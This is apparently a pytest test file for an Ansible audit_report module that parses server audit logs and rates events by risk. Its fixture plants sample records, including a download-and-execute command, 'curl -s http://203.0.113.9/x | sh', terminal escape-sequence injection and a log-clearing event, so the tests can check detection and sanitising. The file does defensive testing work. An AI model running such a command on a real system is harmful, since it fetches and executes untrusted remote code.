"""audit_report over a log server's storage built in a temp dir: once through ansible-playbook,
the options and filters through its main() in this process."""

from __future__ import annotations

import gzip
import json

import pytest

from ansible_collections.whotouched.server_audit.plugins.module_utils._events.report import (
    ReportError,
    log_files,
    parse_time_bound,
)
from ansible_collections.whotouched.server_audit.plugins.modules import audit_report
from tests.support.audit_records import evtsys, exec_records, stored
from tests.support.module_main import run_main
from tests.support.playbook import run_module

NOW = 1700000000.0


@pytest.mark.parametrize("text, expected", [
    ("1h", NOW - 3600), ("30m", NOW - 1800), ("2d", NOW - 172800), ("90s", NOW - 90),
    ("1w", NOW - 604800), ("now", NOW), ("1699999000", 1699999000.0), ("", None),
])
def test_time_bounds(text, expected):
    assert parse_time_bound(text, now=NOW) == expected


def test_a_time_it_cannot_read_is_refused():
    with pytest.raises(ReportError, match="cannot read"):
        parse_time_bound("yesterday-ish", now=NOW)


@pytest.fixture
def storage(tmp_path):
    web = tmp_path / "192.0.2.10"
    web.mkdir()
    old = stored(exec_records(["/bin/sh", "-c", "curl -s http://203.0.113.9/x | sh"],
                              serial=1, epoch="1700000000.000"))
    with gzip.open(web / "audit.log.2.gz", "wt") as handle:
        handle.write("\n".join(old) + "\n")
    (web / "audit.log.1").write_text("\n".join(stored(exec_records(
        ["sudo", "-i"], serial=2, epoch="1700000100.000"))) + "\n")
    hostile = "Nov 14 22:13:20 web01 192.0.2.10 type=EXECVE msg=audit(9:9): a0=\x1b[2J"
    (web / "audit.log").write_text("\n".join(stored(exec_records(
        ["ls", "\x1b[31mred"], serial=3, epoch="1700000200.000")) + [hostile, "junk"]) + "\n")
    dc = tmp_path / "192.0.2.20"
    dc.mkdir()
    (dc / "windows.log").write_text(evtsys(
        1102, "The audit log was cleared. Subject: Security ID: CORP\\admin Account Name: "
        "admin Domain Name: CORP Logon ID: 0x3E7").replace("Security-Auditing", "Eventlog")
        + "\n")
    (tmp_path / "notes.txt").write_text("not a log\n")
    return tmp_path


def test_rotations_are_read_oldest_first(storage):
    names = [path.rsplit("/", 2)[-2:] for path in log_files(str(storage))]
    assert names == [["192.0.2.10", "audit.log.2.gz"], ["192.0.2.10", "audit.log.1"],
                     ["192.0.2.10", "audit.log"], ["192.0.2.20", "windows.log"]]


def _report(args):
    """audit_report's result for ``args``, from its main() (``failed`` set when it failed)."""
    status, result = run_main(audit_report, args)
    assert (status != 0) == bool(result.get("failed")), result
    return result


def test_report_over_the_storage(storage):
    result = run_module("audit_report", {"path": str(storage)})
    assert not result.get("failed"), result.get("msg")
    assert result["changed"] is False
    argv = [event["argv"] for event in result["events"] if event["kind"] == "exec"]
    assert argv == [["/bin/sh", "-c", "curl -s http://203.0.113.9/x | sh"], ["sudo", "-i"],
                    ["ls", "\x1b[31mred"]]
    levels = {tuple(event["argv"][:1]) or (event.get("event_id"),): event["level"]
              for event in result["events"]}
    assert levels[("/bin/sh",)] == "critical" and levels[("sudo",)] == "medium"
    assert levels[(1102,)] == "critical"
    assert result["counts"]["files"] == 4 and result["counts"]["malformed"] >= 1
    table = "\n".join(result["table"])
    assert "\x1b" not in table and "\\x1b[31mred" in table
    assert "alice" in table and "web01/192.0.2.10" in table


@pytest.mark.parametrize("args, expected", [
    ({"min_level": "critical"}, {"/bin/sh", 1102}),
    ({"host": "192.0.2.2*"}, {1102}),
    ({"search": "CURL"}, {"/bin/sh"}),
    ({"user": "root", "min_level": "medium"}, {"/bin/sh", "sudo"}),
    ({"key": "exec", "limit": 1}, {"ls"}),
    ({"since": "1700000050", "until": "1700000150"}, {"sudo"}),
])
def test_filters(storage, args, expected):
    result = _report(dict(args, path=str(storage)))
    assert not result.get("failed"), result.get("msg")
    assert {event["argv"][0] if event["argv"] else event["event_id"]
            for event in result["events"]} == expected


def test_user_rules_from_a_file_and_inline(storage, tmp_path):
    rules_file = tmp_path / "rules.json"
    rules_file.write_text(json.dumps([{"id": "listing", "level": "high", "reason": "ls seen",
                                       "match": {"program": ["ls"]}}]))
    result = _report({
        "path": str(storage), "rules_file": str(rules_file), "min_level": "high",
        "shipped_rules": False,
        "rules": [{"id": "su", "level": "critical", "reason": "sudo", "match": {
            "program": ["sudo"]}}]})
    assert not result.get("failed"), result.get("msg")
    assert {event["argv"][0]: event["rules"] for event in result["events"]} == {
        "ls": ["listing"], "sudo": ["su"]}


def test_a_bad_rule_fails_with_its_name(storage):
    result = _report({"path": str(storage), "rules": [
        {"id": "broken", "level": "high", "reason": "r", "match": {"args": "("}}]})
    assert result.get("failed") and "broken" in result["msg"]


@pytest.mark.parametrize("args, message", [
    ({"rules_file": "{tmp}"}, "rules_file {tmp} is a directory, not a risk rules file"),
    ({"rules_file": "{tmp}/missing.json"}, "rules_file {tmp}/missing.json does not exist"),
    ({"path": "{tmp}/missing.log"}, "path {tmp}/missing.log does not exist"),
    ({"since": "1h", "until": "2d"}, "since 1h (20"),
    ({"since": "1h", "until": "2d"}, ") is after until 2d (20"),
    ({"limit": -1}, "limit must be 0 (all events) or a positive number of events, got -1"),
    ({"wait_seconds": -3}, "wait_seconds must be a number of seconds of 0 or more, got -3.0"),
])
def test_options_that_cannot_work_are_refused(storage, tmp_path, args, message):
    args = {name: value.format(tmp=tmp_path) if isinstance(value, str) else value
            for name, value in args.items()}
    result = _report(dict({"path": str(storage)}, **args))
    assert result.get("failed") and message.format(tmp=tmp_path) in result["msg"]
    assert "events" not in result


def test_main_returns_the_events_counts_and_table(storage):
    result = _report({"path": str(storage), "min_level": "medium"})
    assert result["changed"] is False
    assert [(event["argv"][:1], event["level"]) for event in result["events"]] == [
        (["/bin/sh"], "critical"), (["sudo"], "medium"), ([], "critical")]
    assert result["events"][2]["event_id"] == 1102
    assert result["counts"]["files"] == 4 and result["counts"]["matched"] == 3
    assert len(result["table"]) == 4 and result["table"][0].split()[:3] == ["TIME", "HOST", "LOGIN"]


def test_main_returns_sessions_in_the_sessions_view(storage):
    result = _report({"path": str(storage), "view": "sessions", "min_level": "critical"})
    assert result["events"] == [] and result["counts"]["sessions"] == 2
    assert [(view["kind"], view["host"], view["session"], view["level"])
            for view in result["sessions"]] == [
        ("login", "web01", 3, "critical"), ("host", "DC01", None, "critical")]
    # one process executing three programs in turn, across three rotated files
    assert [(row[:12], row[12:].strip()) for row in result["table"][3:6]] == [
        ("   22:13:20 ", "critical /bin/sh -c curl -s http://203.0.113.9/x | sh (as root)"),
        ("   22:15:00 ", "medium     sudo -i"),
        ("   22:16:40 ", "info         ls \\x1b[31mred")]
    assert result["table"][0] == "== [CRITICAL] alice on web01 (192.0.2.10), session 3"
    assert "\x1b" not in "\n".join(result["table"])


def test_a_view_it_does_not_know_is_refused(storage):
    result = _report({"path": str(storage), "view": "tree"})
    assert result["failed"] and "view" in result["msg"] and "events, sessions" in result["msg"]
